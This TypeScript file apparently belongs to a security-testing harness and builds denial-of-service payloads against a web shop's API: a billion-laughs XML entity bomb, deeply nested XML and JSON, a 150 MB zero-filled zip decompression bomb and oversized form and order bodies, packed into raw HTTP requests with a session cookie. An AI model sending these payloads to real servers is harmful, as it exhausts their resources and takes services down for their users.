import { archiveOf, archiveWithTwoDirectories } from '@proverka/archive/archive.fixtures';
import { headOf } from './target.ts';
import type { Target } from './target.ts';

interface Bomb {
  readonly url: string;
  readonly body: string;
  readonly type?: string;
}

const MB = 1024 * 1024;
const DEPTH = 60_000;

/** Small bodies that cost much where they are read without limits. */
export function bombs(): readonly Bomb[] {
  const zeros = { name: 'xl/worksheets/sheet1.xml', content: Buffer.alloc(150 * MB) };
  const shown = { name: '[Content_Types].xml', content: Buffer.from('<Types/>') };
  const entities = Array.from(
    { length: 12 },
    (_, at) => `<!ENTITY e${at + 1} "${`&e${at};`.repeat(10)}">`,
  ).join('');
  const xml = `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY e0 "aaaaaaaaaa">${entities}]><a>&e12;</a>`;
  const nested = `<a>${'<b>'.repeat(50_000)}`;
  const list = (content: Buffer) =>
    JSON.stringify({ file: { name: 'list.xlsx', content_base64: content.toString('base64') } });
  const extract = (content: Buffer) =>
    JSON.stringify({ files: [{ name: 'extract.xml', content_base64: content.toString('base64') }] });
  return [
    { url: '/api/login', body: `{"username":${'['.repeat(DEPTH)}${']'.repeat(DEPTH)}}` },
    { url: '/api/wholesale', body: list(archiveWithTwoDirectories([shown], [zeros])) },
    { url: '/api/wholesale', body: list(archiveOf(shown, zeros)) },
    { url: '/api/seller-extract', body: extract(Buffer.from(xml)) },
    { url: '/api/seller-extract', body: extract(Buffer.from(nested)) },
    { url: '/api/seller-extract', body: extract(archiveOf({ ...zeros, name: 'a.xml' })) },
    { url: '/api/reset', body: 'username=a&'.repeat(20_000), type: 'application/x-www-form-urlencoded' },
    { url: '/api/order', body: `{"order_items":[${'{},'.repeat(60_000)}{}]}` },
  ];
}

/** The bytes of a call that carries a bomb, made once: packing it again would cost the attacker more than the server. */
export function callOf(target: Target, { url, body, type }: Bomb): Buffer {
  const head = headOf(target, url === '/api/reset' ? 'PUT' : 'POST', url);
  const typed = type === undefined ? head : head.replace('application/json', type);
  const cookie = `cookie: _token=${target.token}\r\n`;
  const bytes = Buffer.from(body);
  return Buffer.concat([
    Buffer.from(`${typed}${cookie}connection: close\r\ncontent-length: ${bytes.length}\r\n\r\n`),
    bytes,
  ]);
}
